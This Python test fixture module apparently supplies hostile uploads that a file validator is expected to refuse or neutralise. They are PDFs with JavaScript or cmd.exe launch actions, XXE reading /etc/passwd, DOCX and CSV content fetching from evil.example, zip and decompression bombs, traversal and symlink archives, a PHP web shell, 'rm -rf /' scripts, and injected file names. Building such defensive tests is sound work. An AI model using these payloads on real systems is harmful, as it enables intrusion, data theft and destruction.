"""Files that mean harm, made at run time: {what it tries: (name, content)}. Nothing here is stored in a file, so
that no scanner stops at the sources."""

import binascii
import io
import os
import struct
import zipfile
import zlib

from PIL import Image

from . import samples

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
REMOTE = (
    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
    'TargetMode="External"/></Relationships>'
)


def png_of(width, height):
    """A head that promises many pixels, and nearly nothing behind it."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def sheet_of(size):
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    part = (b"a" * 100 + bytes(range(200))) * (size // 300)
    return samples.zipped({"[Content_Types].xml": samples.types_of(sheet), "xl/media/a.png": part})


def just_too_large():
    """A whole picture, so that nothing but the limit stops it."""
    result = io.BytesIO()
    Image.new("1", (5_000, 2_501)).save(result, "PNG")
    return result.getvalue()


def blank(form, size, **options):
    result = io.BytesIO()
    Image.new("L" if form == "JPEG" else "RGB", size).save(result, form, **options)
    return result.getvalue()


SCRIPT = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"


def packed_script(packing, content, *, pad=b"", before=b""):
    """A script in an object stream, where no search for names in the file finds it."""
    head = b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter " + packing + b" /Length %d " % len(content)
    return samples.pdf(before + head + pad + b">>\nstream\n" + content + b"\nendstream\nendobj")


def fetching(links):
    return with_part("word/_rels/settings.xml.rels", links)


def with_part(name, content="x"):
    return samples.zipped(samples.docx_parts() | {name: content})


def symlink():
    info = zipfile.ZipInfo("word/link.xml")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return samples.zipped(samples.docx_parts() | {info: "/etc/passwd"})


def bomb():
    return with_part("word/media.xml", b"\0" * 60_000_000)


def bomb_in_pieces():
    """Each part is modest, together they are not."""
    return samples.zipped(samples.docx_parts() | {f"word/p{n}.xml": b"ab" * 5_100_000 for n in range(20)})


def lying_size():
    """The table of contents says a few bytes where there are many."""
    content, wanted = bytearray(with_part("word/big.xml", b"0123456789" * 1000)), b"word/big.xml"
    at = content.rfind(wanted)
    content[at - 22 : at - 18] = struct.pack("<I", 10)
    return bytes(content)


def encrypted():
    content = bytearray(samples.docx())
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def twice():
    result = io.BytesIO(samples.docx())
    with zipfile.ZipFile(result, "a") as archive, archive.open(zipfile.ZipInfo("word/document.xml"), "w") as part:
        part.write(b"<other/>")
    return result.getvalue()


def in_stream(names):
    packed = zlib.compress(b"5 0 " + names)
    head = b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return samples.pdf(head + packed + b"\nendstream\nendobj")


def macro_types():
    return samples.types_of("application/vnd.ms-word.document.macroEnabled.main+xml")


REFUSED = {
    "PDF that runs a script when opened": lambda: (
        "a.pdf",
        samples.pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ),
    "PDF with a script by its short name": lambda: ("a.pdf", samples.pdf(catalog=b"/AA << /O << /JS (x) >> >>")),
    "PDF with a script spelled in hex": lambda: ("a.pdf", samples.pdf(catalog=b"/OpenAction << /S /J#61vaScript >>")),
    "PDF with a script in a packed object": lambda: ("a.pdf", in_stream(b"<< /S /JavaScript /JS (x) >>")),
    "PDF that starts a program": lambda: ("a.pdf", samples.pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "PDF that starts a program from a packed object": lambda: ("a.pdf", in_stream(b"<< /S /Launch >>")),
    "PDF with a file inside": lambda: ("a.pdf", samples.pdf(catalog=b"/Names << /EmbeddedFiles 9 0 R >>")),
    "PDF with rich media": lambda: ("a.pdf", samples.pdf(b"4 0 obj << /Subtype /RichMedia >> endobj")),
    "PDF with an XFA form": lambda: ("a.pdf", samples.pdf(catalog=b"/AcroForm << /XFA 9 0 R >>")),
    "PDF that cannot be looked into": lambda: ("a.pdf", samples.pdf(b"", b"/Encrypt 9 0 R")),
    "PDF with a ZIP at its end": lambda: ("a.pdf", samples.pdf() + samples.zipped({"a.txt": "a"})),
    "PDF with a page at its end": lambda: ("a.pdf", samples.pdf(tail=HTML * 100)),
    "PDF cut off": lambda: ("a.pdf", samples.pdf()[:80]),
    "PDF that is only a head": lambda: ("a.pdf", b"%PDF-1.7\n"),
    "PDF of streams that never end": lambda: ("a.pdf", samples.pdf(b"/Launch " + b"stream\n" * 300_000)),
    "PDF full of short names": lambda: ("a.pdf", samples.pdf(b"stream\n" + b"/JS " * 500_000 + b"endstream /JS (x)")),
    "PDF of countless streams": lambda: ("a.pdf", samples.pdf(b"stream endstream " * 200_001)),
    "PDF of countless names in hex": lambda: ("a.pdf", samples.pdf(b"/a#42 " * 200_001)),
    "PDF that unpacks to far too much": lambda: ("a.pdf", in_stream(b"0" * 30_000_000)),
    "text of comments without end": lambda: ("a.txt", b"<!---->" * 100_000 + b"x"),
    "PPTX with a chart that is a bomb": lambda: (
        "a.pptx",
        samples.pptx({f"ppt/embeddings/{n}.xlsx": sheet_of(30_000_000) for n in range(8)}),
    ),
    "SVG with a script": lambda: ("a.svg", SVG),
    "SVG called PNG": lambda: ("a.png", SVG),
    "SVG called text": lambda: ("a.txt", SVG),
    "HTML": lambda: ("a.html", HTML),
    "HTML called JPG": lambda: ("a.jpg", HTML),
    "HTML called text": lambda: ("a.txt", b"\n\n <!-- x -->" + HTML),
    "HTML called CSV, where two pieces meet": lambda: (
        "a.csv",
        b"a;b\n" * 16_383 + b"<script src=//evil.example></script>\n",
    ),
    "HTML called text, after much space": lambda: ("a.txt", b" " * 200_000 + HTML[:15] + b"<b>x</b>"),
    "HTML called CSV, deeper down": lambda: ("a.csv", b"a;b\n" * 50 + b"<script src=//evil.example></script>"),
    "HTML in UTF-16 called text": lambda: ("a.txt", HTML.decode().encode("utf-16")),
    "GIF that is also a script": lambda: ("a.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//"),
    "GIF called PNG": lambda: ("a.png", samples.picture("GIF")),
    "PNG with two endings": lambda: ("a.png.html", samples.picture()),
    "PNG called PDF": lambda: ("a.pdf", samples.picture()),
    "PDF called DOCX": lambda: ("a.docx", samples.pdf()),
    "DOCX called XLSX": lambda: ("a.xlsx", samples.docx()),
    "text called PDF": lambda: ("a.pdf", b"hello"),
    "PNG of two billion pixels": lambda: ("a.png", png_of(46_000, 46_000)),
    "PNG just above the limit": lambda: ("a.png", just_too_large()),
    "WebP above its limit": lambda: ("a.webp", blank("WEBP", (2_000, 1_251))),
    "JPG just above the limit of photos": lambda: ("a.jpg", blank("JPEG", (8_000, 6_300))),
    "JPG above the limit, in steps": lambda: ("a.jpg", blank("JPEG", (5_000, 2_600), progressive=True)),
    "PNG cut off": lambda: ("a.png", samples.picture(size=(300, 300))[:60]),
    "JPG cut off": lambda: ("a.jpg", samples.picture("JPEG", size=(300, 300))[:200]),
    "WebP of zeros": lambda: ("a.webp", b"RIFF\x10\0\0\0WEBPVP8 " + b"\0" * 20),
    "DOCM": lambda: ("a.docm", samples.zipped(samples.docx_parts() | {"[Content_Types].xml": macro_types()})),
    "DOCM called DOCX": lambda: (
        "a.docx",
        samples.zipped(samples.docx_parts() | {"[Content_Types].xml": macro_types()}),
    ),
    "DOCX with macros": lambda: ("a.docx", with_part("word/vbaProject.bin")),
    "DOCX with macros, in capitals elsewhere": lambda: ("a.docx", with_part("x/VBAPROJECT.BIN")),
    "ODT with macros": lambda: (
        "a.odt",
        samples.zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/script-lc.xml": "x"}),
    ),
    "DOCX with an archive inside": lambda: ("a.docx", with_part("word/a.zip", samples.zipped({"a": "a"}))),
    "DOCX with a disguised archive inside": lambda: ("a.docx", with_part("word/image.png", samples.zipped({"a": "a"}))),
    "DOCX with a program inside": lambda: ("a.docx", with_part("word/image.png", b"MZ" + b"\0" * 99)),
    "DOCX with an embedded object": lambda: ("a.docx", with_part("word/embeddings/oleObject1.bin")),
    "DOCX with a virus inside": lambda: ("a.docx", with_part("word/note.txt", EICAR)),
    "DOCX that is a bomb": lambda: ("a.docx", bomb()),
    "DOCX that is a bomb in pieces": lambda: ("a.docx", bomb_in_pieces()),
    "DOCX of too many parts": lambda: (
        "a.docx",
        samples.zipped(samples.docx_parts() | {f"p{n}": "" for n in range(2001)}),
    ),
    "DOCX that lies about a size": lambda: ("a.docx", lying_size()),
    "DOCX with a symbolic link": lambda: ("a.docx", symlink()),
    "DOCX with a way out": lambda: ("a.docx", with_part("../../etc/cron.d/a")),
    "DOCX with an absolute path": lambda: ("a.docx", with_part("/etc/passwd")),
    "DOCX with a Windows path": lambda: ("a.docx", with_part("C:\\Windows\\a.xml")),
    "DOCX with a part twice": lambda: ("a.docx", twice()),
    "DOCX with an external entity": lambda: ("a.docx", with_part("word/a.xml", XXE)),
    "DOCX with an external entity in UTF-16": lambda: ("a.docx", with_part("word/a.xml", XXE.encode("utf-16"))),
    "DOCX that fetches a template": lambda: ("a.docx", with_part("word/_rels/settings.xml.rels", REMOTE)),
    "DOCX that fetches a template, in single quotes": lambda: ("a.docx", fetching(REMOTE.replace('"', "'"))),
    "DOCX that fetches a template, a letter by its number": lambda: (
        "a.docx",
        fetching(REMOTE.replace("attachedTemplate", "attachedTemplat&#x65;")),
    ),
    "DOCX that fetches a template, far apart": lambda: (
        "a.docx",
        fetching(REMOTE.replace("TargetMode", f"X='{os.urandom(50_000).hex()}' TargetMode")),
    ),
    "PDF with a script, packed in letters": lambda: (
        "a.pdf",
        packed_script(b"/ASCIIHexDecode", binascii.hexlify(SCRIPT)),
    ),
    "PDF with a script, its packing broken at the end": lambda: (
        "a.pdf",
        packed_script(b"/FlateDecode", zlib.compress(SCRIPT)[:-1] + b"x"),
    ),
    "PDF with a script, padded": lambda: (
        "a.pdf",
        packed_script(b"/FlateDecode", zlib.compress(SCRIPT), pad=b" " * 500),
    ),
    "PDF with a script, behind a remark": lambda: (
        "a.pdf",
        packed_script(b"/FlateDecode", zlib.compress(SCRIPT), before=b"%stream\n"),
    ),
    "PDF with a script, turned by a predictor": lambda: (
        "a.pdf",
        packed_script(b"/FlateDecode /DecodeParms << /Predictor 12 >>", zlib.compress(SCRIPT)),
    ),
    "DOCX with a password": lambda: ("a.docx", encrypted()),
    "DOCX cut off": lambda: ("a.docx", samples.docx()[:200]),
    "ZIP": lambda: ("a.zip", samples.zipped({"a.txt": "a"})),
    "ZIP called DOCX": lambda: ("a.docx", samples.zipped({"a.txt": "a"})),
    "APK called ODT": lambda: ("a.odt", samples.zipped({"mimetype": "application/java-archive", "classes.dex": "x"})),
    "GZIP called text": lambda: ("a.txt", b"\x1f\x8b\x08\0" + b"x" * 20),
    "RAR": lambda: ("a.rar", b"Rar!\x1a\x07\0"),
    "tape archive": lambda: ("a.txt", b"a" + b"\0" * 256 + b"ustar" + b"\0" * 200),
    "virus called text": lambda: ("a.txt", EICAR),
    "virus called COM": lambda: ("a.com", EICAR),
    "virus in a PDF": lambda: ("a.pdf", samples.pdf(b"% " + EICAR)),
    "ELF program": lambda: ("a", b"\x7fELF\x02\x01\x01" + b"\0" * 60),
    "Windows program": lambda: ("a.exe", b"MZ\x90" + b"\0" * 60),
    "Windows program called PDF": lambda: ("a.pdf", b"MZ\x90" + b"\0" * 60),
    "shell script": lambda: ("a.sh", b"#!/bin/sh\nrm -rf /\n"),
    "shell script called text": lambda: ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "PHP called text": lambda: ("a.txt", b"<?php system($_GET[0]); ?>"),
    "PHP in a CSV": lambda: ("a.csv", b"a;<?php system($_GET[0]); ?>"),
    "Windows batch called text": lambda: ("a.txt", b"@echo off\r\ndel *.*"),
    "Windows shortcut": lambda: ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
    "old Office file": lambda: ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60),
    "web archive called text": lambda: ("a.txt", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML),
    "bytes called text": lambda: ("a.txt", bytes(range(256))),
    "text without an ending": lambda: ("README", b"hello"),
    "JavaScript": lambda: ("a.js", b"alert(1)"),
    "empty": lambda: ("a.pdf", b""),
}
# Nothing in these PDF files is forbidden, so they are kept; whoever draws them must not be harmed.
_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] "


def zeros(millions):
    """Packed, a thousandth of what they unpack to."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2)]
    return parts[0] + parts[1] * (millions - 1) + packer.flush()


def drawing(objects, **more):
    """A page that draws the first of these objects."""
    numbered = b"".join(b"%d 0 obj\n%s\nendobj\n" % (20 + at, content) for at, content in enumerate(objects))
    catalog = b"/Resources << /XObject << /X20 20 0 R >> >>"
    page = samples.pdf_of_pages(1, content=b"/X20 Do", **more).replace(b"/Contents", catalog + b" /Contents")
    return page.replace(b"trailer", numbered + b"trailer")


def forms_in_forms(levels=12):
    """Each draws the next one ten times."""

    def form(number):
        inside = b"/X%d" % (number + 1)
        return samples.pdf_stream(
            (inside + b" Do\n") * 10, _FORM + b"/Resources << /XObject << %s %d 0 R >> >>" % (inside, number + 1)
        )

    return drawing([*(form(20 + at) for at in range(levels)), samples.pdf_stream(b"0 0 9 9 re f", _FORM)])


def image(side):
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 " % (
        side,
        side,
    )
    return drawing([samples.pdf_stream(zeros(side * side * 3 // 1_000_000), head + b"/Filter /FlateDecode")])


DRAWN = {
    "PDF that unpacks to a billion bytes": lambda: drawing(
        [samples.pdf_stream(zeros(1000), _FORM + b"/Filter /FlateDecode")]
    ),
    "PDF that draws a trillion times": forms_in_forms,
    "PDF with a picture of 400 million pixels": lambda: image(20_000),
    "PDF with a page without size": lambda: samples.pdf_of_pages(1, "0 0 0 0"),
    "PDF with a page of endless length": lambda: samples.pdf_of_pages(1, "0 0 1 99999999999999999999"),
    "PDF whose pages are their own parents": lambda: samples.pdf_of_pages(1).replace(
        b"/Kids [10 0 R]", b"/Kids [2 0 R]"
    ),
    "PDF of pages that are not there": lambda: samples.pdf_of_pages(1).replace(b"/Count 1", b"/Count 99999999"),
}
# What is taken in, but without its sting: nothing of these bytes may be left.
NEUTRALISED = {
    "PNG with a page behind it": lambda: ("a.png", samples.picture() + HTML, HTML),
    "PNG with a ZIP behind it": lambda: ("a.png", samples.picture() + samples.zipped({"a.txt": "a"}), b"PK\x03\x04"),
    "JPG with a script in its comment": lambda: ("a.jpg", samples.picture("JPEG", comment=HTML), HTML),
    "WebP with a script in its notes": lambda: ("a.webp", samples.picture("WEBP", xmp=HTML), HTML),
    "PNG with PHP behind it": lambda: ("a.png", samples.picture() + b"<?php x ?>", b"<?php"),
}
NAMES = [
    "../../../../etc/cron.d/a.pdf",
    "..\\..\\Windows\\System32\\a.pdf",
    "/etc/passwd.pdf",
    "C:\\autoexec.pdf",
    "\\\\server\\share\\a.pdf",
    "a\0.exe.pdf",
    "a\r\nSet-Cookie: s=1.pdf",
    "a\u202efdp.exe.pdf",
    "a\u2066\u2069\u200b.pdf",
    "CON.pdf",
    "nul.pdf",
    "LPT1.x.pdf",
    "a" * 300 + ".pdf",
    "ş" * 300 + ".pdf",
    "....pdf",
    " .pdf",
    'a:b|c?d*e<f>g"h.pdf',
    "<script>alert(1)</script>.pdf",
    "%2e%2e%2fetc%2fpasswd.pdf",
    "'; DROP TABLE documents_document; --.pdf",
    ".htaccess.pdf",
    "~/.ssh/authorized_keys.pdf",
]
